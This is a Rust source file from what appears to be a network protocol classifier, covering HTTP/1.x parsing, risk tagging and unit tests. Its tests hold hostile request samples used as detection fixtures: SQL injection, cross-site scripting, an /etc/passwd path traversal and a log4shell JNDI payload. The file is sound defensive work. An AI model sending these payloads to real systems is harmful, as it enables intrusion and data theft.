//! HTTP/1.0 and 1.1 (RFC 9112): the first request of a flow and its response, headers only.

pub(super) mod message;
mod risks;
mod shapes;

use self::message::{
    Header, METHODS, VERSION, authority, field, host_of, request_line, split_line, starts_like,
};
use crate::facts::HostnameSource;
#[cfg(test)]
use crate::protocol::{DST, SRC, Sample, Samples};
use crate::protocol::{Findings, Look, Protocol, SHALLOW, Transport, Verdict, Want};
use crate::text::{NAME_MAX, TEXT_MAX, URI_MAX, lossy};

pub(crate) const PROTOCOL: Protocol = Protocol {
    name: "http",
    category: "web",
    encrypted: false,
    over: &[(Transport::Tcp, &[b'A'..=b'Z', b'\r'..=b'\r', b'\n'..=b'\n'])],
    ports: PORTS,
    bound: false,
    fields: &[],
    head: SHALLOW,
    inspect,
};

/// Those of everything that looks like HTTP at first: whoever is at its port is asked before.
pub(super) const PORTS: &[u16] = &[80, 3128, 8000, 8080, 8888];

/// For protocols that carry HTTP, or are carried by it: `bytes` of this direction begin where it
/// begins. `None` if they are not HTTP; else what can still be learnt.
pub(super) fn inside(look: &Look<'_>, bytes: &[u8], findings: &mut Findings) -> Option<Want> {
    match inspect(&Look { bytes, other: &[], ..*look }, findings) {
        Verdict::No => None,
        Verdict::NeedMore => Some(Want::Rest),
        Verdict::Match { want, .. } => Some(want),
    }
}

/// The same with a label of its own.
pub(super) fn carrying(look: &Look<'_>, findings: &mut Findings, evidence: &'static str) -> Verdict {
    inside(look, look.bytes, findings).map_or(Verdict::No, |want| Verdict::proven(evidence, want))
}

fn inspect(look: &Look<'_>, findings: &mut Findings) -> Verdict {
    // RFC 9112 s2.2: empty lines before a request are ignored.
    let blank = look.bytes.iter().take_while(|byte| matches!(byte, b'\r' | b'\n')).count();
    let bytes = look.bytes.get(blank..).unwrap_or_default();
    if blank > 4 || bytes.is_empty() {
        return if blank > 4 || look.cut { Verdict::No } else { Verdict::NeedMore };
    }
    // The shortest method has three letters; noise is seldom so alike.
    if !bytes.iter().take(3).all(u8::is_ascii_uppercase) {
        return Verdict::No;
    }
    if starts_like(bytes, VERSION) { response(look, bytes, findings) } else { request(look, bytes, findings) }
}

fn request(look: &Look<'_>, bytes: &[u8], findings: &mut Findings) -> Verdict {
    const EVIDENCE: &str = "HTTP request line";
    let Some((line, headers)) = split_line(bytes) else {
        return unfinished_request(look, bytes, findings);
    };
    let Some((method, uri)) = request_line(line) else { return Verdict::No };
    let header = Header::read(headers);
    if header.after.is_none() && !look.cut {
        // Likely only: what its header says can make it another protocol.
        return Verdict::likely(EVIDENCE, Want::Rest);
    }
    let body = header.after.unwrap_or_default();
    risks::of_request(line, uri, &header, body, findings);
    let facts = &mut findings.facts;
    let http = facts.http.get_or_insert_default();
    http.method = Some(lossy(method, NAME_MAX));
    http.uri = Some(lossy(uri, URI_MAX));
    if let (Some(agent), None) = (header.user_agent, &http.user_agent) {
        http.user_agent = Some(field(agent, TEXT_MAX));
    }
    http.host = header.host.map(|host| field(host, NAME_MAX));
    let answered = http.status.is_some();
    // RFC 9112 s3.2.2, s3.2.3: the target of a request to a proxy names the host itself.
    let hostname = authority(method, uri).or(header.host).map(host_of).filter(|host| !host.is_empty());
    if let Some(hostname) = hostname {
        risks::of_name(hostname, findings);
        findings.facts.hostname = Some(lossy(hostname, NAME_MAX));
        findings.facts.hostname_source = Some(HostnameSource::HttpHost);
    }
    if !look.cut && body.len() < body_wanted(&header) {
        return Verdict::likely(EVIDENCE, Want::Rest);
    }
    Verdict::proven(EVIDENCE, if answered { Want::Nothing } else { Want::Reply })
}

/// How many bytes of a request's body are waited for: forms, because of passwords in them, and
/// what may be a call.
fn body_wanted(header: &Header<'_>) -> usize {
    const MOST: usize = 2048;
    const KINDS: [&[u8]; 4] =
        [b"application/x-www-form", b"application/json", b"text/xml", b"application/soap"];
    let kind = header.last.content_type;
    if header.expects || !KINDS.iter().any(|known| is_kind(kind, known)) {
        return 0;
    }
    let digits = std::str::from_utf8(header.last.content_length).unwrap_or_default();
    digits.parse::<usize>().unwrap_or_default().min(MOST)
}

/// The media type begins so, in any case.
fn is_kind(kind: &[u8], known: &[u8]) -> bool {
    kind.get(..known.len()).is_some_and(|start| start.eq_ignore_ascii_case(known))
}

/// A request line whose end has not been seen.
fn unfinished_request(look: &Look<'_>, bytes: &[u8], findings: &mut Findings) -> Verdict {
    let begun = METHODS.iter().any(|method| match bytes.strip_prefix(*method) {
        Some(rest) => rest.first().is_none_or(|byte| *byte == b' '),
        None => method.starts_with(bytes),
    });
    if !begun || !bytes.iter().all(|byte| matches!(byte, b' '..=b'~' | 0x80.. | b'\r')) {
        return Verdict::No;
    }
    if !look.cut {
        return Verdict::NeedMore;
    }
    let mut parts = bytes.splitn(2, |byte| *byte == b' ');
    match (parts.next(), parts.next()) {
        (Some(method), Some(uri)) if uri.starts_with(b"/") || uri.starts_with(b"http://") => {
            let http = findings.facts.http.get_or_insert_default();
            http.method = Some(lossy(method, NAME_MAX));
            http.uri = Some(lossy(uri, URI_MAX));
            Verdict::likely("HTTP method and target, the rest of the line not seen", Want::Reply)
        }
        _ => Verdict::No,
    }
}

fn response(look: &Look<'_>, bytes: &[u8], findings: &mut Findings) -> Verdict {
    const EVIDENCE: &str = "HTTP status line";
    let mut bytes = bytes;
    loop {
        // RFC 9112 s4: version, status code, reason.
        let (Some(start), false) = (bytes.get(..VERSION.len() + 5), bytes.len() < VERSION.len() + 5) else {
            return if look.cut || !starts_like(bytes, VERSION) { Verdict::No } else { Verdict::NeedMore };
        };
        let Some(&[minor, b' ', a @ b'1'..=b'9', b @ b'0'..=b'9', c @ b'0'..=b'9']) =
            start.strip_prefix(VERSION)
        else {
            return Verdict::No;
        };
        if !minor.is_ascii_digit() {
            return Verdict::No;
        }
        let status = [a, b, c].iter().fold(0, |n, digit| n * 10 + u16::from(digit - b'0'));
        let Some(header) = split_line(bytes)
            .map(|(_, headers)| Header::read(headers))
            .filter(|header| look.cut || header.after.is_some())
            .or_else(|| look.cut.then(Header::default))
        else {
            return Verdict::likely(EVIDENCE, Want::Rest);
        };
        // RFC 9110 s15.2: interim responses come before the one that counts, 101 is the last.
        if matches!(status, 100 | 102..=199)
            && let Some(next) = header.after
        {
            if next.is_empty() {
                return Verdict::proven(EVIDENCE, if look.cut { Want::Nothing } else { Want::Rest });
            }
            bytes = next;
            continue;
        }
        let body = header.after.unwrap_or_default();
        if status == 200 && body.len() < 4 && risks::may_be_program(&header) && !look.cut {
            return Verdict::likely(EVIDENCE, Want::Rest);
        }
        risks::of_response(status, &header, body, findings);
        let http = findings.facts.http.get_or_insert_default();
        http.status = Some(status);
        if let (Some(server), None) = (header.server, &http.server) {
            http.server = Some(field(server, NAME_MAX));
        }
        if let (Some(kind), None) = (header.content_type, &http.content_type) {
            http.content_type = Some(field(kind, NAME_MAX));
        }
        let asked = http.method.is_some();
        return Verdict::proven(EVIDENCE, if asked { Want::Nothing } else { Want::Reply });
    }
}

#[cfg(test)]
pub(crate) const SAMPLES: Samples = Samples {
    positive: &[Sample::tcp(
        50000,
        8123,
        &[
            (SRC, b"GET /a HTTP/1.1\r\nHost: www.example.org\r\n\r\n"),
            (DST, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
        ],
    )],
    near_miss: &[Sample::tcp(50000, 80, &[(SRC, b"GET a banana, two pears\r\n\r\n")])],
};

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::Progress;
    use crate::testing::{Flow, TCP};

    const REQUEST: &[u8] =
        b"GET /a?b=c HTTP/1.1\r\nHost: Example.org:8080\r\nX: y\r\nUser-Agent: curl/8\r\n\r\n";
    const RESPONSE: &[u8] =
        b"HTTP/1.1 404 Not Found\r\nServer: nginx\r\nContent-Type: text/html;\r\n\t charset=utf-8\r\n\r\n<html>";

    fn flow() -> Flow {
        Flow::new(TCP, 50000, 8081)
    }

    fn assert_both(flow: &Flow) {
        assert_eq!(
            (flow.name(), flow.inspection.facts().hostname.as_deref()),
            (Some("http"), Some("Example.org"))
        );
        let http = flow.inspection.facts().http.as_deref().unwrap();
        let text = |field: &Option<Box<str>>| field.as_deref().map(str::to_owned).unwrap_or_default();
        assert_eq!((text(&http.method), text(&http.uri)), ("GET".into(), "/a?b=c".into()));
        assert_eq!((text(&http.host), text(&http.user_agent)), ("Example.org:8080".into(), "curl/8".into()));
        assert_eq!((http.status, text(&http.server)), (Some(404), "nginx".into()));
        assert_eq!(text(&http.content_type), "text/html; charset=utf-8");
    }

    #[test]
    fn request_and_response() {
        let mut flow = flow();
        assert_eq!(flow.src(REQUEST), Progress::More);
        assert_eq!(flow.buffers(), 0, "one segment is enough");
        assert_eq!(flow.dst(RESPONSE), Progress::Done);
        assert_both(&flow);
    }

    #[test]
    fn split_anywhere() {
        for size in [1, 2, 5, 30] {
            let mut flow = flow();
            REQUEST.chunks(size).for_each(|piece| assert_eq!(flow.src(piece), Progress::More));
            for piece in RESPONSE.chunks(size) {
                if flow.dst(piece) == Progress::Done {
                    break;
                }
            }
            assert_both(&flow);
        }
    }

    #[test]
    fn the_response_first_or_alone() {
        let mut flow = flow();
        assert_eq!((flow.dst(RESPONSE), flow.name()), (Progress::More, Some("http")));
        assert_eq!(flow.src(REQUEST), Progress::Done);
        assert_both(&flow);
    }

    #[test]
    fn interim_responses_are_passed_over() {
        let mut flow = flow();
        flow.src(REQUEST);
        assert_eq!(flow.dst(b"HTTP/1.1 100 Continue\r\n\r\n"), Progress::More);
        assert_eq!(flow.dst(RESPONSE), Progress::Done);
        assert_both(&flow);
    }

    #[test]
    fn unusual_requests() {
        let cases: [(&[u8], Option<&str>); 6] = [
            (b"\r\nPROPFIND / HTTP/1.1\nHost: a.example\n\n", Some("a.example")),
            (b"CONNECT b.example:443 HTTP/1.1\r\n\r\n", Some("b.example")),
            (b"GET http://c.example/x HTTP/1.0\r\nHost: other\r\n\r\n", Some("c.example")),
            (b"GET /a b c HTTP/1.0\r\n\r\n", None),
            (b"BREW /pot HTTP/1.1\r\nHost: [2001:db8::1]:80\r\n\r\n", Some("2001:db8::1")),
            (b"POST / HTTP/1.1\r\nhost :\r\n d.example\r\n\r\n", Some("d.example")),
        ];
        for (request, host) in cases {
            let mut flow = flow();
            assert_eq!(flow.src(request), Progress::More);
            assert!(flow.name().is_some_and(|name| name.starts_with("http")));
            assert_eq!(flow.inspection.facts().hostname.as_deref(), host);
        }
    }

    #[test]
    fn a_long_header_is_read_as_far_as_allowed() {
        let mut flow = flow();
        let request = [&REQUEST[..REQUEST.len() - 2], b"Cookie: ", &[b'x'; 5000]].concat();
        let mut last = Progress::More;
        request.chunks(1460).for_each(|piece| last = flow.src(piece));
        assert_eq!((last, flow.name()), (Progress::More, Some("http")));
        assert_eq!(flow.inspection.facts().hostname.as_deref(), Some("Example.org"));
        flow.next(TCP, 50000, 80);
        flow.src(&[b"GET /", &[b'u'; 5000][..]].concat());
        assert_eq!(flow.confidence(), Some(crate::Confidence::Likely));
        let uri = flow.inspection.facts().http.as_ref().and_then(|http| http.uri.clone());
        assert_eq!(uri.map(|uri| uri.len()), Some(URI_MAX));
    }

    fn risks_of(request: &[u8], response: &[u8]) -> Vec<&'static str> {
        let mut flow = flow();
        flow.src(request);
        flow.dst(response);
        flow.inspection.facts().risks.names().collect()
    }

    #[test]
    fn what_is_worth_a_warning() {
        const OK: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nhi";
        let cases: [(&[u8], &[&str]); 14] = [
            (b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Basic dTpw\r\n\r\n", &["cleartext-credentials"]),
            (b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Digest username=u\r\n\r\n", &[]),
            (b"POST /l HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 14\r\n\r\nuser=u&pwd=abc", &["cleartext-credentials"]),
            (b"GET /?compwd=1&password= HTTP/1.1\r\nHost: a\r\n\r\n", &[]),
            (b"GET / HTTP/1.1\r\nHost: 192.0.2.1:81\r\n\r\n", &["numeric-host"]),
            (b"GET / HTTP/1.1\r\nHost: xn--bcher-kva.example\r\n\r\n", &["punycode"]),
            (b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.8#stable\r\n\r\n", &["suspicious-user-agent"]),
            (b"GET /?id=1%27%20UNION/**/SELECT%201,2 HTTP/1.1\r\nHost: a\r\n\r\n", &["sql-injection"]),
            (b"GET /?q=student+union+selection HTTP/1.1\r\nHost: a\r\n\r\n", &[]),
            (b"GET /?q=%253Cscript%253Ealert(1) HTTP/1.1\r\nHost: a\r\n\r\n", &["cross-site-scripting"]),
            (b"GET /cgi-bin/..%2f..%2f..%2fetc/passwd HTTP/1.1\r\nHost: a\r\n\r\n", &["remote-code"]),
            (b"GET / HTTP/1.1\r\nHost: a\r\nX-Api: ${jndi:ldap://192.0.2.1/a}\r\n\r\n", &["log4shell"]),
            (b"GET / HTTP/1.1\r\nAccept: */*\r\n\r\n", &["malformed"]),
            (b"GET /../a?next=/b/../c HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0 (X11; Linux)\r\n\r\n", &[]),
        ];
        for (request, risks) in cases {
            assert_eq!(risks_of(request, OK), risks, "{}", request.escape_ascii());
        }
    }

    #[test]
    fn programs_are_noticed() {
        const GET: &[u8] = b"GET /a HTTP/1.1\r\nHost: a\r\n\r\n";
        for response in [
            &b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n\x7fELF\x02\x01\x01"[..],
            b"HTTP/1.1 200 OK\r\n\r\nMZ\x90\0\x03\0\0\0",
            b"HTTP/1.1 200 OK\r\nContent-Type: application/x-msdownload\r\n\r\n",
        ] {
            assert_eq!(risks_of(GET, response), ["executable-download"]);
        }
        for response in [
            &b"HTTP/1.1 404 No\r\nContent-Type: text/plain\r\n\r\n\x7fELF\x02\x01\x01"[..],
            b"HTTP/1.1 200 OK\r\n\r\nMZ is a former country code",
        ] {
            assert!(risks_of(GET, response).is_empty());
        }
    }

    #[test]
    fn near_misses() {
        let lines: [&[u8]; 9] = [
            b"GET / HTTP/2.0\r\n\r\n",
            b"INVITE sip:a@b SIP/3.0\r\n\r\n",
            b"HTTP/2 200 OK\r\n\r\n",
            b"HTTP/1.1 2x0 OK\r\n\r\n",
            b"HTTP/1.1200 OK\r\n\r\n",
            b"USER anonymous\r\n",
            b"GETAWAY",
            b"GET \x01\x02",
            b"\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n",
        ];
        for line in lines {
            let mut flow = Flow::new(TCP, 50000, 80);
            flow.src(line);
            assert_eq!(flow.name(), None, "{}", line.escape_ascii());
        }
    }
}
